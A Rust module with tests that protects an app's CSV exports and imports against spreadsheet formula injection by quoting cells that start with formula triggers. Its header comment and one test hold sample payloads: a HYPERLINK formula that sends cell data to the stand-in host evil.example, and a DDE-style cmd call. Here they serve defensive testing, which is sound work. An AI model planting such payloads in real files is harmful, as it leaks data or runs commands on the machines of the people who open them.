//! Every CSV the app writes goes through [`CsvOut`], and every CSV it reads through [`read`]
//! (a paste, through [`pasted_rows`]), because a CSV is opened in a spreadsheet and a spreadsheet runs cells as
//! formulas. A challenge titled `=HYPERLINK("http://evil.example/?x="&B2,"Open")`, or a sign-in
//! email `@SUM(1+1)*cmd|' /C calc'!A0` in the audit trail, would run on the faculty member's
//! machine when they open the export (OWASP, "CSV Injection").
//!
//! The rules, in one place:
//! - **Text cells** that begin with `=`, `+`, `-`, `@`, tab or carriage return get a single
//!   quote `'` in front, as OWASP advises; spreadsheets then show the cell as text. So does
//!   a text cell that is only quotes before such a character (`'=x` is written `''=x`), so
//!   that taking the quote off again is exact.
//! - **Number cells** ([`Cell::int`], [`Cell::decimal`]) are written as they are. The app
//!   formats them itself from an integer, so they are digits with at most a leading `-` and a
//!   point: `-3` is the number minus three to a spreadsheet, never a formula, and a quote would
//!   turn it into text and break sums. Any text that merely looks like a number (a measure
//!   answer typed as "-3", a name) is a text cell and is neutralised.
//! - Fields are quoted as RFC 4180 asks (comma, double quote, CR or LF inside; quotes doubled),
//!   and also when they hold a semicolon or a tab: a spreadsheet set to split on those (Excel in
//!   many European locales splits on `;`) would otherwise start a new cell in the middle of
//!   ours, and that cell would not have been neutralised. Otherwise the bytes are what the `csv`
//!   crate's writer makes (comma-separated, `\n` line ends, no byte-order mark).
//! - Importers take the quote off again ([`plain`]): only when what follows it is one of those
//!   characters (after any further quotes), so an export reads back exactly and a real value
//!   such as `'Twas` is left alone.

use std::path::Path;

/// The first characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a text, once any leading quotes are skipped, starts like a formula.
fn formula_like(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// A text cell as it is written: with a leading `'` when it would start like a formula.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if formula_like(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The inverse of [`neutralise`], for importers: drops one leading `'` when what follows it
/// starts like a formula; anything else is returned as it is.
pub fn plain(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest,
        _ => cell,
    }
}

/// One cell of a CSV the app writes: text (neutralised) or a number the app formatted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell(Kind);

#[derive(Debug, Clone, PartialEq, Eq)]
enum Kind {
    Text(String),
    /// Only ever made from an integer here, so it cannot carry a formula.
    Number(String),
}

impl Cell {
    pub fn text(text: impl Into<String>) -> Cell {
        Cell(Kind::Text(text.into()))
    }

    pub fn int(n: i64) -> Cell {
        Cell(Kind::Number(n.to_string()))
    }

    /// A decimal number kept as whole units of 10^-places: `decimal(35, 1)` is `3.5`,
    /// `decimal(30, 1)` is `3.0`, `decimal(-15, 1)` is `-1.5`.
    pub fn decimal(units: i64, places: u32) -> Cell {
        if places == 0 {
            return Cell::int(units);
        }
        let scale = 10u64.pow(places);
        let sign = if units < 0 { "-" } else { "" };
        let a = units.unsigned_abs();
        let width = places as usize;
        Cell(Kind::Number(format!(
            "{sign}{}.{:0width$}",
            a / scale,
            a % scale
        )))
    }

    /// The cell as it goes into the file, before CSV quoting.
    fn written(&self) -> std::borrow::Cow<'_, str> {
        match &self.0 {
            Kind::Text(t) => neutralise(t),
            Kind::Number(n) => n.as_str().into(),
        }
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Cell {
        Cell::text(text)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Cell {
        Cell::text(text)
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Cell {
        Cell::int(n)
    }
}

/// Nothing is an empty cell.
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(v: Option<T>) -> Cell {
        v.map_or_else(|| Cell::text(""), Into::into)
    }
}

/// A CSV being written: a header row of `N` names, then rows of `N` cells each (the count is
/// checked when the code is compiled, so no row can come out ragged).
#[derive(Debug)]
pub struct CsvOut<const N: usize> {
    bytes: Vec<u8>,
}

impl<const N: usize> CsvOut<N> {
    pub fn new(header: [&str; N]) -> CsvOut<N> {
        let mut out = CsvOut { bytes: vec![] };
        out.row(header.map(Cell::text));
        out
    }

    pub fn row(&mut self, cells: [Cell; N]) {
        for (i, cell) in cells.iter().enumerate() {
            if i > 0 {
                self.bytes.push(b',');
            }
            let field = cell.written();
            // A lone empty field is quoted, or the row would read back as a blank line.
            if needs_quotes(&field) || (N == 1 && field.is_empty()) {
                self.bytes.push(b'"');
                self.bytes
                    .extend_from_slice(field.replace('"', "\"\"").as_bytes());
                self.bytes.push(b'"');
            } else {
                self.bytes.extend_from_slice(field.as_bytes());
            }
        }
        self.bytes.push(b'\n');
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.bytes
    }

    /// Writes the file at `path`.
    pub fn write_to(self, path: &Path) -> std::io::Result<()> {
        std::fs::write(path, self.bytes)
    }
}

fn needs_quotes(field: &str) -> bool {
    field
        .bytes()
        .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n' | b';' | b'\t'))
}

/// The separator a spreadsheet used: whichever of comma, semicolon or tab the header row has
/// most of outside quotes (a header cell may be `"Comments, if any"` in a file split on `;`).
fn delimiter(text: &str) -> u8 {
    let mut counts = [0usize; 3];
    let mut quoted = false;
    for c in text.trim_start_matches(['\r', '\n']).chars() {
        match c {
            '"' => quoted = !quoted,
            '\r' | '\n' if !quoted => break,
            ',' if !quoted => counts[0] += 1,
            ';' if !quoted => counts[1] += 1,
            '\t' if !quoted => counts[2] += 1,
            _ => {}
        }
    }
    [b',', b';', b'\t']
        .into_iter()
        .zip(counts)
        .max_by_key(|(_, n)| *n)
        .map_or(b',', |(d, _)| d)
}

/// A CSV someone brings in, read as rows: a byte-order mark dropped, the separator guessed from
/// the header, rows of any length, every cell through [`plain`].
///
/// Each row is named by the row a spreadsheet shows it on (the header is row 1), since that is
/// where the person opening the file looks: a record is one row however many lines its quoted
/// cells span, named by the row it starts on; a blank line is a row of its own; CRLF, LF and a
/// lone CR each end one line. The `csv` crate's `Position::line()` will not do: it counts the
/// LFs read before the reader went looking for the record, which after CRLF is one short (the
/// LF is still unread), and it counts the line breaks inside quoted cells.
pub struct CsvIn<'a> {
    text: &'a [u8],
    reader: csv::Reader<&'a [u8]>,
    /// The row of the record read last; before the first, the row before the file's first.
    row: i64,
    /// The byte the record read last starts at.
    start: usize,
}

/// A row of a [`CsvIn`]: its number and its cells, or `None` when it could not be read as CSV.
pub struct Row {
    pub line: i64,
    pub record: Option<csv::StringRecord>,
}

pub fn read(text: &str) -> CsvIn<'_> {
    let text = text.trim_start_matches('\u{feff}');
    CsvIn {
        text: text.as_bytes(),
        reader: csv::ReaderBuilder::new()
            .delimiter(delimiter(text))
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes()),
        row: 0,
        start: 0,
    }
}

/// How many lines the line breaks in `run` end: CRLF, LF and a lone CR are one each.
fn line_breaks(run: &[u8]) -> i64 {
    run.iter()
        .enumerate()
        .filter(|(i, b)| **b == b'\n' || (**b == b'\r' && run.get(i + 1) != Some(&b'\n')))
        .count() as i64
}

impl CsvIn<'_> {
    /// The header row: empty for an empty file, `None` when it could not be read.
    pub fn header(&mut self) -> Option<csv::StringRecord> {
        self.next()
            .map_or(Some(csv::StringRecord::new()), |r| r.record)
    }
}

impl Iterator for CsvIn<'_> {
    type Item = Row;

    fn next(&mut self) -> Option<Row> {
        let from = self.reader.position().byte() as usize;
        let mut record = csv::StringRecord::new();
        let read = self.reader.read_record(&mut record);
        if matches!(read, Ok(false)) {
            return None;
        }
        // The reader skips line breaks before a record (an unread LF, blank lines), and no
        // record starts with one, so the record starts after them...
        let start = from
            + self.text[from..]
                .iter()
                .take_while(|b| matches!(b, b'\r' | b'\n'))
                .count();
        // ...and, as no record ends with one outside quotes either, those at the end of what
        // lies between the last record's start and this one's are all the rows in between.
        let between = &self.text[self.start..start];
        let run = between.len()
            - between
                .iter()
                .rev()
                .take_while(|b| matches!(b, b'\r' | b'\n'))
                .count();
        let breaks = line_breaks(&between[run..]);
        // Blank lines before the header are rows too.
        self.row = self.row.max(1) + breaks;
        self.start = start;
        Some(Row {
            line: self.row,
            record: read.ok().map(|_| record.iter().map(plain).collect()),
        })
    }
}

/// One row of a paste: the line of the box it starts on, and its cells.
#[derive(Debug, PartialEq, Eq)]
pub struct PastedRow {
    pub line: usize,
    pub cells: Vec<String>,
}

/// Splits text pasted from a spreadsheet into rows of cells. Spreadsheets copy cells split by
/// tabs, so a row with a tab (outside quotes) is split on tabs only and a comma in it is part of
/// a number; other rows, typed or from a CSV, split on commas and semicolons. A cell in double
/// quotes may hold separators, doubled quotes and line breaks, as a spreadsheet copies them.
/// Unlike a file, a paste is named by the line of the box its row starts on (CRLF, LF and a
/// lone CR each end one), since the box is what the person is looking at.
pub fn pasted_rows(text: &str) -> Vec<PastedRow> {
    let text = text.trim_start_matches('\u{feff}');
    let mut rows = vec![];
    let (mut line, mut start, mut from) = (1, 1, 0);
    // Whether inside quotes, and whether the cell so far is only spaces (a quote there opens).
    let (mut quoted, mut fresh) = (false, true);
    let mut chars = text.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        match c {
            '"' if quoted => {
                if chars.next_if(|(_, n)| *n == '"').is_none() {
                    quoted = false;
                }
            }
            '"' if fresh => (quoted, fresh) = (true, false),
            '\t' | ',' | ';' if !quoted => fresh = true,
            '\r' | '\n' => {
                if c == '\r' {
                    chars.next_if(|(_, n)| *n == '\n');
                }
                line += 1;
                if !quoted {
                    rows.push(PastedRow {
                        line: start,
                        cells: pasted_cells(&text[from..i]),
                    });
                    from = chars.peek().map_or(text.len(), |(j, _)| *j);
                    (start, fresh) = (line, true);
                }
            }
            ' ' => {}
            _ => fresh = false,
        }
    }
    if from < text.len() {
        rows.push(PastedRow {
            line: start,
            cells: pasted_cells(&text[from..]),
        });
    }
    rows
}

/// The cells of one pasted row, quotes taken off.
fn pasted_cells(row: &str) -> Vec<String> {
    let split = |separators: &[char]| {
        let mut cells = vec![String::new()];
        let mut quoted = false;
        let mut chars = row.chars().peekable();
        while let Some(c) = chars.next() {
            let cell = cells.last_mut().expect("never empty");
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                '"' if quoted => quoted = false,
                // A quote opens a quoted cell only at its start, as in a CSV.
                '"' if cell.trim().is_empty() => {
                    cell.clear();
                    quoted = true;
                }
                c if !quoted && separators.contains(&c) => cells.push(String::new()),
                c => cell.push(c),
            }
        }
        cells
    };
    let tabbed = split(&['\t']);
    if tabbed.len() > 1 {
        tabbed
    } else {
        split(&[',', ';'])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::{Rng, SeedableRng};

    fn text(cells: &[&str]) -> String {
        let mut out = CsvOut::<3>::new(["a", "b", "c"]);
        out.row([cells[0].into(), cells[1].into(), cells[2].into()]);
        String::from_utf8(out.into_bytes()).unwrap()
    }

    /// Reads `bytes` back as an importer does.
    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let text = std::str::from_utf8(bytes).unwrap();
        read(text)
            .map(|row| row.record.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn each_trigger_gets_a_quote_and_ordinary_text_does_not() {
        for (cell, written) in [
            ("=1+1", "'=1+1"),
            ("+44 20 7946 0000", "'+44 20 7946 0000"),
            ("-3", "'-3"),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''+x", "'''+x"),
            ("'Twas brillig", "'Twas brillig"),
            ("'", "'"),
            ("Reduce delays", "Reduce delays"),
            ("a=b", "a=b"),
            (" =x", " =x"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
            assert_eq!(plain(written), cell, "{written:?}");
        }
        // Text that was never neutralised is left alone by the importers.
        for cell in ["'Twas", "'", "''", "'x=1", "plain"] {
            assert_eq!(plain(cell), cell);
        }
    }

    #[test]
    fn numbers_are_written_as_numbers_and_text_that_looks_like_one_is_not() {
        let mut out = CsvOut::<5>::new(["n", "d", "neg", "text", "none"]);
        out.row([
            Cell::int(-3),
            Cell::decimal(35, 1),
            Cell::decimal(-15, 1),
            Cell::text("-3"),
            None::<i64>.into(),
        ]);
        out.row([
            0.into(),
            Cell::decimal(30, 1),
            Cell::decimal(-5, 2),
            "x".into(),
            Some(7).into(),
        ]);
        let text = String::from_utf8(out.into_bytes()).unwrap();
        assert_eq!(
            text,
            "n,d,neg,text,none\n-3,3.5,-1.5,'-3,\n0,3.0,-0.05,x,7\n"
        );
    }

    #[test]
    fn the_payloads_from_the_finding_are_quoted_and_neutralised() {
        let title = r#"=HYPERLINK("http://evil.example/?x="&B2,"Open")"#;
        let email = "@SUM(1+1)*cmd|' /C calc'!A0";
        assert_eq!(
            text(&[title, email, "ok"]),
            "a,b,c\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"Open\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,ok\n"
        );
        // A semicolon or tab inside a cell is quoted, so no spreadsheet splits it there.
        assert_eq!(
            text(&["a;=1+1", "b\t=1+1", "c"]),
            "a,b,c\n\"a;=1+1\",\"b\t=1+1\",c\n"
        );
    }

    #[test]
    fn a_lone_empty_field_is_quoted_so_the_row_is_kept() {
        let mut out = CsvOut::<1>::new(["only"]);
        out.row(["".into()]);
        out.row(["-".into()]);
        let bytes = out.into_bytes();
        assert_eq!(bytes, b"only\n\"\"\n'-\n");
        assert_eq!(read_back(&bytes), [["only"], [""], ["-"]]);
    }

    /// Each row's number and first cell, as the importers read them.
    fn numbered(text: &str) -> Vec<(i64, String)> {
        read(text)
            .map(|r| (r.line, r.record.unwrap()[0].to_owned()))
            .collect()
    }

    #[test]
    fn rows_are_numbered_as_a_spreadsheet_shows_them() {
        for end in ["\r\n", "\n", "\r"] {
            // A quoted line break keeps one row; a blank line is a row; a BOM is no row.
            let text = "\u{feff}h,note\n2,\"a, b\"\n3,\"two\nlines\"\n\n5,x\n \n7,\"\"\"q\"\"\"\n"
                .replace('\n', end);
            let rows = numbered(&text);
            let want = [(1, "h"), (2, "2"), (3, "3"), (5, "5"), (6, " "), (7, "7")];
            assert_eq!(rows, want.map(|(n, c)| (n, c.to_owned())), "{text:?}");
        }
        // Blank lines before the header count too, and no final line break is needed.
        assert_eq!(
            numbered("\r\n\r\nh\r\n\r\nx"),
            [(3, "h".to_owned()), (5, "x".to_owned())]
        );
        assert!(numbered("").is_empty());
        assert_eq!(read("").header(), Some(csv::StringRecord::new()));
    }

    #[test]
    fn the_separator_is_guessed_from_the_header_outside_quotes() {
        assert_eq!(delimiter("\"Roles, formal, held\";Email\r\n"), b';');
        assert_eq!(delimiter("\r\na\tb\tc\n1,2,3,4"), b'\t');
        assert_eq!(delimiter("a,b;c,d"), b',');
    }

    #[test]
    fn a_paste_is_split_by_its_own_separator_and_named_by_its_first_line() {
        let rows = pasted_rows(
            "\u{feff}Week\t\"Minutes\r\nwaited\"\r\n07/09/2026\t1,041\r\n\r\n\
             2026-09-14, \"1,040\"\r2026-09-21;\"say \"\"40\"\"\"\n5\" tall,3",
        );
        let want: [(usize, &[&str]); 6] = [
            (1, &["Week", "Minutes\r\nwaited"]),
            (3, &["07/09/2026", "1,041"]),
            (4, &[""]),
            (5, &["2026-09-14", "1,040"]),
            (6, &["2026-09-21", "say \"40\""]),
            (7, &["5\" tall", "3"]),
        ];
        assert_eq!(
            rows,
            want.map(|(line, cells)| PastedRow {
                line,
                cells: cells.iter().map(|c| c.to_string()).collect()
            })
        );
    }

    /// A string built from the characters that matter here, and a few others.
    fn awkward(rng: &mut impl Rng) -> String {
        const PARTS: &[&str] = &[
            "=",
            "+",
            "-",
            "@",
            "\t",
            "\r",
            "\n",
            "\r\n",
            "'",
            "''",
            "\"",
            ",",
            ";",
            " ",
            "a",
            "Z",
            "0",
            "9",
            ".",
            "é",
            "漢",
            "|",
            "!",
            "(",
            ")",
            "=HYPERLINK(\"x\")",
            "'Twas",
        ];
        let n = rng.gen_range(0..8);
        (0..n)
            .map(|_| PARTS[rng.gen_range(0..PARTS.len())])
            .collect()
    }

    #[test]
    fn any_text_reads_back_exactly_and_never_opens_as_a_formula() {
        let mut rng = rand::rngs::StdRng::seed_from_u64(14);
        for _ in 0..20_000 {
            let row: [String; 4] = std::array::from_fn(|_| awkward(&mut rng));
            // Through the `csv` crate's own reader, as the brief for this module asks...
            let mut out = CsvOut::<4>::new(["a", "b", "c", "d"]);
            out.row(row.clone().map(Cell::text));
            let bytes = out.into_bytes();
            let mut r = csv::Reader::from_reader(bytes.as_slice());
            let rec = r.records().next().unwrap().unwrap();
            let back: Vec<&str> = rec.iter().map(plain).collect();
            assert_eq!(back, row, "{:?}", String::from_utf8_lossy(&bytes));
            // ...and as a spreadsheet sees it: no field starts like a formula.
            for field in rec.iter() {
                assert!(!field.starts_with(TRIGGERS), "{field:?}");
            }
            // ...and through the importers' reader.
            assert_eq!(read_back(&bytes)[1], row);
        }
    }

    #[test]
    fn any_file_reads_back_with_the_rows_a_spreadsheet_shows() {
        let mut rng = rand::rngs::StdRng::seed_from_u64(15);
        for _ in 0..5_000 {
            let end = ["\r\n", "\n", "\r"][rng.gen_range(0..3)];
            let mut text = String::from(if rng.gen_bool(0.5) { "\u{feff}" } else { "" });
            let (mut row, mut want) = (0, vec![]);
            for _ in 0..rng.gen_range(1..6) {
                while rng.gen_bool(0.2) {
                    text.push_str(end);
                    row += 1;
                }
                let cells: [String; 3] = std::array::from_fn(|_| awkward(&mut rng));
                let one = CsvOut::<3>::new(cells.each_ref().map(String::as_str)).into_bytes();
                text.push_str(std::str::from_utf8(&one).unwrap().trim_end_matches('\n'));
                text.push_str(end);
                row += 1;
                want.push((row, cells.to_vec()));
            }
            let got: Vec<(i64, Vec<String>)> = read(&text)
                .map(|r| {
                    let cells = r.record.unwrap().iter().map(str::to_owned).collect();
                    (r.line, cells)
                })
                .collect();
            assert_eq!(got, want, "{text:?}");
        }
    }

    #[test]
    fn without_triggers_semicolons_or_tabs_the_bytes_are_the_csv_crates() {
        let mut rng = rand::rngs::StdRng::seed_from_u64(4180);
        let mut compared = 0;
        for _ in 0..20_000 {
            let row: [String; 3] = std::array::from_fn(|_| awkward(&mut rng));
            if row
                .iter()
                .any(|c| formula_like(c) || c.contains([';', '\t']))
            {
                continue;
            }
            compared += 1;
            let mut ours = CsvOut::<3>::new(["a", "b", "c"]);
            ours.row(row.clone().map(Cell::text));
            let mut theirs = csv::Writer::from_writer(vec![]);
            theirs.write_record(["a", "b", "c"]).unwrap();
            theirs.write_record(&row).unwrap();
            assert_eq!(ours.into_bytes(), theirs.into_inner().unwrap(), "{row:?}");
        }
        assert!(compared > 1_000);
    }
}
